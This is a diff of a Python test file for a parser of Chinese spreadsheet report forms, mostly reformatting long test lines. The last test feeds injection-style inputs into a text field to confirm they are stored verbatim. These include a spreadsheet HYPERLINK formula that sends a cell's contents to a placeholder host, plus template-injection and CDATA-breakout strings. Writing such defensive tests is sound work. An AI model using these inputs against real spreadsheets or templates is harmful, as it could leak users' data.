@@ -36,7 +36,14 @@ def test_every_typed_value_becomes_an_entry_with_its_cell() -> None:
     assert len(entries) == len(GOOD)
     one = next(each for each in entries if each.field == "完成值" and each.indicator == "4.2")
     assert (one.form, one.value, one.source.sheet, one.source.cell) == ("DW", "91.5%", *at(S, "4.2", "完成值"))
-    assert {each.field for each in entries if each.source.sheet == V} == {"填报人", "联系电话", "填报日期", "检查人", "检查日期", "单位意见"}
+    assert {each.field for each in entries if each.source.sheet == V} == {
+        "填报人",
+        "联系电话",
+        "填报日期",
+        "检查人",
+        "检查日期",
+        "单位意见",
+    }
 
 
 def test_a_line_holds_what_its_method_asks_for() -> None:
@@ -133,7 +140,9 @@ CASES: tuple[tuple[str, str, str, CellValue, str, str], ...] = (
 
 
 @pytest.mark.parametrize(("sheet", "code", "title", "typed", "fault", "effect"), CASES)
-def test_a_wrong_cell_is_named_with_its_own_code(sheet: str, code: str, title: str, typed: CellValue, fault: str, effect: str) -> None:
+def test_a_wrong_cell_is_named_with_its_own_code(
+    sheet: str, code: str, title: str, typed: CellValue, fault: str, effect: str
+) -> None:
     found = said(filled({(sheet, code, title): typed}))
     assert (fault, effect, *at(sheet, code, title)) in found
     assert {each[2:] for each in found} == {at(sheet, code, title)}
@@ -147,7 +156,9 @@ def test_one_wrong_cell_leaves_everything_else_of_the_form_as_it_was(
     own = code if sheet in (S, D, C, A, R) else ""
     assert bad.withheld == (effect == "存疑")
     assert [s for s in bad.scores if s.indicator != own] == [s for s in good.scores if s.indicator != own]
-    assert [s for s in bad.deductions if s.number != own] == [s for s in good.deductions if s.number != own] or sheet != D
+    assert [s for s in bad.deductions if s.number != own] == [
+        s for s in good.deductions if s.number != own
+    ] or sheet != D
     assert [s for s in bad.reports if s.problem_id != own] == [s for s in good.reports if s.problem_id != own]
     assert bad.words == good.words
 
@@ -182,7 +193,12 @@ def test_a_penalty_is_confirmed_by_the_team_like_a_bonus() -> None:
 
 def test_a_broken_formula_in_a_required_cell_is_no_blank() -> None:
     place = at(S, "4.4", "得分")
-    for odd, code in (("#REF!", "VALUE-017"), ("公式无结果", "VALUE-018"), ("合并遮盖", "VALUE-026"), ("百分比格式", "VALUE-027")):
+    for odd, code in (
+        ("#REF!", "VALUE-017"),
+        ("公式无结果", "VALUE-018"),
+        ("合并遮盖", "VALUE-026"),
+        ("百分比格式", "VALUE-027"),
+    ):
         reading = filled({(S, "4.4", "得分"): 0.95 if odd.startswith("百分比") else None})
         table = reading.table(S)
         assert table is not None
@@ -196,6 +212,12 @@ def test_in_a_format_without_second_look_a_blank_may_be_a_broken_formula() -> No
 
 
 def test_texts_come_as_typed_whatever_they_look_like() -> None:
-    for typed in ('=HYPERLINK("http://x.invalid/?"&A1,"点")', "A&B<C>]]> {{ 7*7 }} =1+1", "{% for x in y %}", "@某同志", "-5"):
+    for typed in (
+        '=HYPERLINK("http://x.invalid/?"&A1,"点")',
+        "A&B<C>]]> {{ 7*7 }} =1+1",
+        "{% for x in y %}",
+        "@某同志",
+        "-5",
+    ):
         assert _submission({(D, "01", "事实"): typed}).deductions[0].fact.value == typed
     assert said(filled({(S, "4.4", "说明"): "长" * 32767}))[0][:2] == ("VALUE-052", "提示")
